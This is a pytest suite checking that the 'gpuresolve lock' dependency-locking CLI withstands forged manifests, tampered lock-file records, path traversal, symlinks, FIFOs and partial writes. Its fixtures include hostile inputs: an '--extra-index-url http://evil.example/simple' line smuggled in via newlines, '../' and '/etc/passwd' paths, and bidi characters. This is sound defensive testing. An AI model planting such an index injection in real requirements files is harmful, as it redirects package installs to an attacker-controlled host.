"""What `gpuresolve lock` writes and removes, and what it trusts when it reads its files back.

Each case is one of issue 19's: a forged manifest must not delete a user's file, a forged record
must not pass `--check`, no write follows a link out of ``-o``, a FIFO or a link to /dev/zero as
an output file is refused at once, a team write is all or nothing, 6,000 GPUs round-trip.
"""

from __future__ import annotations

import hashlib
import json
import os
import stat
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from cli_support import run_cli

from resolver.writers import recorded

run = run_cli
ROOT = Path(__file__).resolve().parent.parent
DESCRIBED = ["--platform", "linux-x86_64", "--python", "3.12", "--driver", "560.35.03"]
DESCRIBED += ["--gpu", "8.9"]
MANIFEST = ".gpuresolve-manifest.json"


def snapshot(directory: Path) -> dict[str, Any]:
    """Every entry under ``directory`` (links not followed): kind, mode, bytes or link target."""
    out: dict[str, Any] = {}
    for root, dirs, files in os.walk(directory, followlinks=False):
        for name in [*dirs, *files]:
            path = Path(root) / name
            st = os.lstat(path)
            rel = str(path.relative_to(directory))
            if stat.S_ISLNK(st.st_mode):
                out[rel] = ("link", os.readlink(path))
            elif stat.S_ISREG(st.st_mode):
                out[rel] = ("file", stat.S_IMODE(st.st_mode), path.read_bytes())
            else:
                out[rel] = ("other", stat.S_IFMT(st.st_mode), stat.S_IMODE(st.st_mode))
    return out


def one_error(err: str) -> str:
    assert "Traceback" not in err
    errors = [line for line in err.splitlines() if line.startswith("gpuresolve: error:")]
    assert len(errors) == 1, err
    return errors[0]


def team_spec(directory: Path, targets: str, split: str = "false") -> Path:
    spec = directory / "pair.yaml"
    spec.write_text(
        f"name: pair\npython: '3.12'\nsplit: {split}\npackages: {{torch: '>=2.6'}}\n"
        f"targets:\n{targets}"
    )
    return spec


TWO = (
    "  - {name: linux, platform: linux-x86_64, no_gpu: true}\n"
    "  - {name: mac, platform: macos-arm64}\n"
)


def locked_pair(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> tuple[Path, Path]:
    """A two-platform team spec, locked once: (the spec, its output folder)."""
    spec = team_spec(tmp_path, TWO)
    assert run(capsys, "lock", str(spec))[0] == 0
    return spec, tmp_path / "pair"


# --- removal: only what is provably ours ---------------------------------------------------


def test_a_forged_manifest_entry_removes_no_user_file(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    spec, out = locked_pair(tmp_path, capsys)
    source = out / "src" / "main.py"
    source.parent.mkdir()
    source.write_bytes(b"print('mine')\n")
    # A lock file of another lock (single target, its own stamp intact) in a user's folder.
    assert run(capsys, "lock", *DESCRIBED, "-o", str(out / "backend"))[0] == 0
    manifest = json.loads((out / MANIFEST).read_text())
    for rel in ("src/main.py", "backend/requirements.txt"):
        manifest["files"][rel] = hashlib.sha256((out / rel).read_bytes()).hexdigest()
    (out / MANIFEST).write_text(json.dumps(manifest))
    before = snapshot(out / "src"), snapshot(out / "backend")
    code, stdout, err = run(capsys, "lock", str(spec))
    assert code in (0, 2) and "Traceback" not in err
    assert "removed" not in stdout
    assert (snapshot(out / "src"), snapshot(out / "backend")) == before


@pytest.mark.parametrize(
    "name", ["a\u0000b/requirements.txt", "../requirements.txt", "/etc/passwd", "x\u202e/report.md"]
)
def test_a_manifest_name_no_lock_writes_is_one_line(
    name: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    spec, out = locked_pair(tmp_path, capsys)
    manifest = json.loads((out / MANIFEST).read_text())
    manifest["files"][name] = "0" * 64
    (out / MANIFEST).write_text(json.dumps(manifest))
    before = snapshot(tmp_path)
    code, _, err = run(capsys, "lock", str(spec))
    assert code == 2
    assert MANIFEST in one_error(err)
    assert snapshot(tmp_path) == before


# --- records are validated like options ----------------------------------------------------

EVIL = "--extra-index-url http://evil.example/simple"


def _forge(path: Path, edit: Any, body_extra: str = "") -> None:
    """Edit the record of a lock file (and its body), then fix the record's digest."""
    name = path.name
    found = recorded._split(name, path.read_text())
    assert found is not None
    body, record = found
    del record["sha256"], record["v"]
    edit(record)
    path.write_text(recorded.stamp(name, body + body_extra, record))


@pytest.mark.parametrize(
    "edit",
    [
        lambda r: r["request"].update(pytorch_index="https://download.pytorch.org/whl\n" + EVIL),
        lambda r: r["request"].update(pytorch_index="javascript:alert(1)"),
        lambda r: r["request"].update(pytorch_index=["https://mirror.example/whl"]),
        lambda r: r["request"].update(torch_spec=">=2.6\u202e"),
        lambda r: r["request"].update(evidence="trust-me"),
        lambda r: r["files"].update(formats=["requirements", "evil"]),
        lambda r: r["files"].update(channel="conda-forge\n" + EVIL),
        lambda r: r["target"].update(driver="\u0665\u0668\u0660.\u0669\u0665"),
        lambda r: r["target"].update(platform="linux-x86_64\n"),
        lambda r: r["target"].update(gpus=[{"cc": "8.9", "count": 10**9}]),
    ],
    ids=[
        "index-newline",
        "index-scheme",
        "index-not-a-string",
        "torch-bidi",
        "evidence",
        "formats",
        "channel-newline",
        "driver-arabic-digits",
        "platform-newline",
        "gpu-count",
    ],
)
def test_a_forged_record_is_never_current(
    edit: Any, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "lock"
    assert run(capsys, "lock", *DESCRIBED, "-o", str(out))[0] == 0
    _forge(out / "requirements.txt", edit, EVIL + "\n")
    code, stdout, err = run(capsys, "lock", "--check", "-o", str(out))
    assert code in (1, 2), stdout + err
    assert "all current" not in stdout and "Traceback" not in err
    if code == 2:
        one_error(err)


def test_an_injected_line_with_a_valid_record_is_drift(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """The record passes as options, but the file is not what it re-derives to."""
    out = tmp_path / "lock"
    assert run(capsys, "lock", *DESCRIBED, "-o", str(out))[0] == 0
    _forge(out / "requirements.txt", lambda r: None, EVIL + "\n")
    code, stdout, _ = run(capsys, "lock", "--check", "-o", str(out))
    assert code == 1 and "all current" not in stdout and f"-{EVIL}" in stdout


@pytest.mark.slow
def test_six_thousand_gpus_lock_then_check(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "lock"
    gpus = [a for _ in range(3000) for a in ("--gpu", "8.9")]
    gpus += [a for _ in range(3000) for a in ("--gpu", "9.0")]
    argv = ["--platform", "linux-x86_64", "--python", "3.12", "--driver", "560.35.03", *gpus]
    assert run(capsys, "lock", *argv, "-o", str(out))[0] == 0
    record = recorded.read("requirements.txt", (out / "requirements.txt").read_text())
    assert record is not None
    assert record["target"]["gpus"] == [{"cc": "8.9", "count": 3000}, {"cc": "9.0", "count": 3000}]
    code, stdout, err = run(capsys, "lock", "--check", "-o", str(out))
    assert code == 0, err
    assert stdout.startswith("all current")


# --- links and non-regular files -----------------------------------------------------------


def test_a_platform_folder_linking_out_of_the_output_is_not_written_through(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    spec, out = locked_pair(tmp_path, capsys)
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "requirements.txt").write_text("precious\n")
    for child in (out / "linux-x86_64").iterdir():
        child.unlink()
    (out / "linux-x86_64").rmdir()
    (out / "linux-x86_64").symlink_to(elsewhere)
    before = snapshot(tmp_path)
    for extra in ((), ("--check",)):
        code, _, err = run(capsys, "lock", str(spec), *extra)
        assert code == 2
        assert "linux-x86_64" in one_error(err)
        assert snapshot(tmp_path) == before


def test_an_output_file_linking_out_is_not_written_through(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "lock"
    out.mkdir()
    outside = tmp_path / "outside.txt"
    outside.write_text("precious\n")
    (out / "requirements.txt").symlink_to(outside)
    before = snapshot(tmp_path)
    code, _, err = run(capsys, "lock", *DESCRIBED, "-o", str(out))
    assert code == 2 and "requirements.txt" in one_error(err)
    assert snapshot(tmp_path) == before


@pytest.mark.skipif(not Path("/dev/zero").exists(), reason="needs /dev/zero")
@pytest.mark.parametrize("extra", [(), ("--check",)], ids=["lock", "check"])
def test_an_output_file_linked_to_dev_zero_is_refused(
    extra: tuple[str, ...], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "lock"
    out.mkdir()
    (out / "requirements.txt").symlink_to("/dev/zero")
    code, _, err = run(capsys, "lock", *DESCRIBED, "--top-level", "-o", str(out), *extra)
    assert code == 2 and "requirements.txt" in one_error(err)


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs FIFOs")
@pytest.mark.parametrize("extra", [(), ("--check",)], ids=["lock", "check"])
def test_a_fifo_as_an_output_file_is_refused_at_once(
    extra: tuple[str, ...], tmp_path: Path
) -> None:
    out = tmp_path / "lock"
    out.mkdir()
    os.mkfifo(out / "requirements.txt")
    env = {**os.environ, "GPURESOLVE_CACHE_DIR": str(tmp_path / "cache")}
    proc = subprocess.run(
        [
            sys.executable,
            "-m",
            "resolver",
            "lock",
            *DESCRIBED,
            "--top-level",
            "-o",
            str(out),
            *extra,
        ],
        capture_output=True,
        text=True,
        env=env,
        cwd=ROOT,
        timeout=120,  # a guard: a read that blocks on the FIFO would hang here
        check=False,
    )
    assert proc.returncode == 2, proc.stderr
    assert "requirements.txt" in one_error(proc.stderr)
    assert stat.S_ISFIFO(os.lstat(out / "requirements.txt").st_mode)


# --- all-or-nothing team writes ------------------------------------------------------------


def test_a_group_named_like_our_file_changes_nothing(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "pair"
    out.mkdir()
    (out / "NOTES.md").write_text("team notes\n")
    spec = team_spec(
        tmp_path,
        "  - {name: report.md, platform: linux-x86_64, no_gpu: true}\n"
        "  - {name: mac, platform: macos-arm64}\n",
        split="true",
    )
    before = snapshot(tmp_path)
    code, _, err = run(capsys, "lock", str(spec))
    assert code == 2 and "report.md" in one_error(err)
    assert snapshot(tmp_path) == before


def test_a_failed_write_mid_team_lock_changes_nothing(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """The disk fails on the third file: the earlier ones were only staged, not swapped in."""
    spec, out = locked_pair(tmp_path, capsys)
    (out / "NOTES.md").write_text("team notes\n")
    spec.write_text(spec.read_text().replace(">=2.6", ">=2.6,<2.99"))  # every file changes
    before = snapshot(tmp_path)
    real = os.fsync
    calls: list[int] = []

    def failing(fd: int) -> None:
        calls.append(fd)
        if len(calls) == 3:
            raise OSError(28, "No space left on device")
        real(fd)

    monkeypatch.setattr(os, "fsync", failing)
    code, _, err = run(capsys, "lock", str(spec))
    assert code == 2 and "nothing was changed" in one_error(err)
    assert len(calls) >= 3
    assert snapshot(tmp_path) == before


@pytest.mark.skipif(os.geteuid() == 0 if hasattr(os, "geteuid") else True, reason="root writes")
def test_a_read_only_platform_folder_changes_nothing(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    spec, out = locked_pair(tmp_path, capsys)
    spec.write_text(spec.read_text().replace(">=2.6", ">=2.6,<2.99"))
    (out / "macos-arm64").chmod(0o555)
    try:
        before = snapshot(tmp_path)
        code, _, err = run(capsys, "lock", str(spec))
        assert code == 2 and "macos-arm64" in one_error(err)
        assert snapshot(tmp_path) == before
    finally:
        (out / "macos-arm64").chmod(0o755)


def test_a_leftover_temporary_file_of_a_crashed_run_blocks_no_write(tmp_path: Path) -> None:
    """A run killed between staging and renaming leaves `.NAME.gpuresolve-PID-….tmp`; a later
    run of the same PID (PIDs are reused) still writes, and leaves the stranger alone."""
    from resolver.writers import outputs

    out = tmp_path / "out"
    out.mkdir()
    stale = out / f".requirements.txt.gpuresolve-{os.getpid()}.tmp"
    stale.write_text("half a file\n")
    outputs.write_files(out, {"requirements.txt": "torch==2.15.0\n"})
    assert (out / "requirements.txt").read_text() == "torch==2.15.0\n"
    assert stale.read_text() == "half a file\n"
    assert sorted(p.name for p in out.iterdir()) == [stale.name, "requirements.txt"]
